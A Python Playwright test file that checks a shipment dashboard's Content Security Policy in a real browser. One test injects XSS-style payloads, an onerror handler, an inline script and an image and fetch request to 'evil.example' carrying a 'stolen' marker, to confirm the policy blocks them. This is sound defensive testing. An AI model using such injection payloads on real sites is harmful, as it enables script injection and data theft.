"""The policy of our pages in a real browser: the whole dashboard is drawn under it, and injected content is not."""

import time
from pathlib import Path

import pytest
from playwright.async_api import expect

from tests.browser.dashboard_page import PATIENCE_MS, OpenPage
from tests.browser.fake_tracker import FakeTracker, a_fleet
from tests.web.tracker_api import a_tracker
from web.http.security_headers import KNOWN
from web.services.services import STATIC_FOLDER

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
async def test_every_part_of_the_dashboard_is_drawn_under_the_policy(
    tracker: FakeTracker, open_page: OpenPage, dark: bool
) -> None:
    tracker.put(*a_fleet(300, at_s=time.time()))
    dashboard = await open_page(tracker.url, dark=dark)
    page = dashboard.page
    await dashboard.says("Live")
    await expect(page.locator(".row__name").first).to_be_visible(timeout=PATIENCE_MS)
    for key in ("?", "Escape", "c", "t", "c"):  # the help, clusters and trails, each there and gone
        await page.keyboard.press(key)
    await page.locator(".pill__text").click()  # how the connection is
    await page.locator(".row__name").first.click()  # the panel of a shipment, and the flight there
    x, y = await dashboard.map_middle()
    await page.mouse.move(x, y)
    await page.mouse.wheel(0, -400)
    await page.mouse.dblclick(x + 30, y + 30)
    await page.get_by_role("button", name="Use light colours" if dark else "Use dark colours").click()
    await page.set_viewport_size({"width": 390, "height": 844})
    # A row is put in its place by a script, which is no inline style: it lies where the list says.
    await page.set_viewport_size({"width": 1280, "height": 800})
    await expect(page.locator(".row__name").first).to_be_visible(timeout=PATIENCE_MS)


async def test_what_others_slip_into_the_page_is_neither_run_nor_styled_and_loads_nothing(
    tracker: FakeTracker, open_page: OpenPage
) -> None:
    dashboard = await open_page(tracker.url)
    page = dashboard.page
    await dashboard.says("Live")
    await page.evaluate("""() => {
      const box = document.createElement("div");
      box.id = "slipped";
      box.innerHTML = '<p style="position: fixed">a</p><img src=x onerror="window.wasRun = true">'
        + '<style>#slipped { position: fixed }</style><img src="https://evil.example/?stolen">';
      document.body.append(box);
      const script = document.createElement("script");
      script.textContent = "window.wasRun = true";
      document.body.append(script);
      return fetch("https://evil.example/").catch(() => null);
    }""")
    assert await page.evaluate("window.wasRun") is None
    for selector in ("#slipped", "#slipped p"):
        position = await page.evaluate("(at) => getComputedStyle(document.querySelector(at)).position", selector)
        assert position == "static", selector
    blocked = [text for text in dashboard.complaints if "Content Security Policy" in text]
    assert {"style-src", "script-src", "img-src", "connect-src"} <= {
        part for text in blocked for part in ("style-src", "script-src", "img-src", "connect-src") if part in text
    } | ({"connect-src"} if any("default-src" in text for text in blocked) else set())
    dashboard.complaints.clear()


async def test_the_page_may_use_of_the_device_only_what_it_needs(tracker: FakeTracker, open_page: OpenPage) -> None:
    dashboard = await open_page(tracker.url)
    allowed = set(await dashboard.page.evaluate("document.featurePolicy.allowedFeatures()"))
    assert allowed.intersection(KNOWN) == {"geolocation", "fullscreen", "clipboard-write"}
    assert "camera" not in allowed


async def test_the_api_can_be_tried_on_its_page_under_the_policy(open_page: OpenPage) -> None:
    api = a_tracker(STATIC_FOLDER)
    async with api.client() as client:
        docs = await open_page(str(client.make_url("/docs")))
        page = docs.page
        await page.get_by_text("/api/shipments/updates").click(timeout=PATIENCE_MS)
        await page.get_by_role("button", name="Try it out").click(timeout=PATIENCE_MS)
        await page.get_by_role("button", name="Execute").click(timeout=PATIENCE_MS)
        await expect(page.get_by_text("Server response")).to_be_visible(timeout=PATIENCE_MS)
        await page.get_by_role("button", name="Schema").first.click()


async def test_pages_without_a_build_are_styled(open_page: OpenPage, tmp_path: Path) -> None:
    async with a_tracker(tmp_path).client() as client:
        page = await open_page(str(client.make_url("/docs")))
        assert await page.page.evaluate("getComputedStyle(document.body).marginTop") == "32px"
        page = await open_page(str(client.make_url("/")))
        page.complaints.clear()  # that it is no page yet (503) is an error to the browser
        assert await page.page.evaluate("getComputedStyle(document.body).marginTop") == "64px"
